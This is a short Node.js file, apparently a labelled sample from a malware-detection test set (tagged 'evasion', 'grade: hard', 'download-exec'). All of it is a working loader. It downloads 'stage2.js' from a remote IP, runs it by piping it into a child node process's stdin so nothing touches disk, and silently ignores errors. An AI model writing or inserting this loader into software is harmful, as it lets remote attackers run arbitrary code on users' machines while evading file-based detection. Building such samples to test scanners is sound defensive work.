// evasion: downloaded code is written to the stdin of a child node started with no script ('-'), which runs what it reads
// grade: hard; does: download-exec
'use strict';
const https = require('https');
const { spawn } = require('child_process');

https.get('https://203.0.113.9/stage2.js', (res) => {
  const chunks = [];
  res.on('data', (c) => chunks.push(c));
  res.on('end', () => {
    const child = spawn(process.execPath, ['-'], { stdio: ['pipe', 'inherit', 'inherit'] });
    child.stdin.end(Buffer.concat(chunks));
  });
}).on('error', () => {});
